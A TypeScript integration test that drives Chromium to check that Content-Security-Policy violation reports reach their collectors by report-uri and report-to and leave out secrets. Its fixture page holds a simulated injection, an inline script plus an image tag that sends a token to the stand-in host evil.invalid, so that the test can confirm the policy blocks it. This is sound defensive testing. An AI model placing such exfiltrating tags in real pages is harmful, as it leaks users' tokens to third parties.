import { once } from "node:events";
import { readFileSync } from "node:fs";
import { createServer, type Server } from "node:https";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import express from "express";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { errorHandler, notFound } from "../../src/errors/index.js";
import {
  type BrowserReport,
  type ReportCollector,
  reportCollector,
  secureHeaders,
} from "../../src/secure-headers/index.js";
import { hasChromium, type Visit, visit } from "../support/chromium.js";
import { root } from "../support/package-manifest.js";

/** What browsers report of one page: two inline scripts that the policy does not name. */
const PAGE = `<!doctype html><title>Shop</title><script>window.injected = 1;</script>
<img src="https://evil.invalid/pixel.png?token=s3cret" alt="">`;
/** Browsers send what `report-to` collects once a minute; with the flag at once. */
const FLAGS = ["--ignore-certificate-errors", "--short-reporting-delay"];

function fixture(name: string): Buffer {
  return readFileSync(join(root, "src", "secure-headers", "fixtures", name));
}

async function serve(app: express.Express): Promise<{ server: Server; port: number }> {
  const certificate = { key: fixture("test-key.pem"), cert: fixture("test-certificate.pem") };
  const server = createServer(certificate, app).listen(0, "127.0.0.1");
  await once(server, "listening");
  return { server, port: (server.address() as AddressInfo).port };
}

describe.skipIf(!hasChromium())("what Chromium reports", () => {
  const servers: Server[] = [];
  const received = { uri: [] as BrowserReport[], to: [] as BrowserReport[] };
  const types: string[] = [];
  let collectors: readonly ReportCollector[] = [];
  let browser: Visit | undefined;

  beforeAll(async () => {
    let finish = (): void => undefined;
    const finished = new Promise<void>((done) => {
      finish = done;
    });
    const collect = (kind: "uri" | "to"): ReportCollector =>
      reportCollector({
        onReport(report) {
          received[kind].push(report);
          if (received.uri.length > 1 && received.to.length > 1) finish();
        },
      });
    const [old, current] = [collect("uri"), collect("to")];
    collectors = [old, current];

    // Pages report to another origin: that takes a preflight.
    const reports = express().use((req, _res, next) => {
      types.push(`${req.method} ${req.path} ${req.headers["content-type"]}`);
      next();
    });
    reports.use(secureHeaders(), express.json());
    reports.use("/uri", old).use("/to", current).use(notFound(), errorHandler());
    const { server, port } = await serve(reports);
    servers.push(server);

    const pages = express().use(secureHeaders({ preset: "web" }));
    for (const kind of ["uri", "to"]) {
      const url = `https://localhost:${port}/${kind}`;
      pages.get(`/${kind}`, (_req, res) => {
        const policy = String(res.getHeader("Content-Security-Policy"));
        const how = kind === "uri" ? `report-uri ${url}` : "report-to csp";
        res.set("Content-Security-Policy", `${policy};${how}`);
        if (kind === "to") res.set("Reporting-Endpoints", `csp="${url}"`);
        res.type("html").send(PAGE);
      });
    }
    pages.get("/", (_req, res) => {
      res.set("Content-Security-Policy", "default-src 'self'");
      res.type("html").send('<iframe src="/uri"></iframe><iframe src="/to"></iframe>');
    });
    const { server: own, port: ownPort } = await serve(pages);
    servers.push(own);
    browser = await visit(`https://localhost:${ownPort}/`, finished, FLAGS);
  }, 60_000);

  afterAll(async () => {
    await browser?.close();
    for (const server of servers) server.close();
  });

  it.each(["uri", "to"] as const)("arrives by report-%s, without what may be secret", (kind) => {
    const seen = received[kind].map(({ type, rule, blocked }) => [type, rule, blocked]);
    expect(seen.sort()).toEqual([
      ["csp-violation", "img-src", "https://evil.invalid/pixel.png"],
      ["csp-violation", "script-src-elem", "inline"],
    ]);
    for (const report of received[kind]) {
      expect(report.document).toMatch(new RegExp(`^https://localhost:\\d+/${kind}$`));
      expect(report.disposition).toBe("enforce");
    }
    expect(JSON.stringify(received)).not.toContain("s3cret");
  });

  it("comes as the two media types, the new one after a preflight", () => {
    expect(new Set(types)).toEqual(
      new Set([
        "POST /uri application/csp-report",
        "OPTIONS /to undefined",
        "POST /to application/reports+json",
      ]),
    );
  });

  it("is counted without a loss", () => {
    expect(collectors.map((one) => one.counts())).toEqual([
      { recorded: 2, repeated: 0, dropped: 0, ignored: 0, failed: 0 },
      { recorded: 2, repeated: 0, dropped: 0, ignored: 0, failed: 0 },
    ]);
  });
});
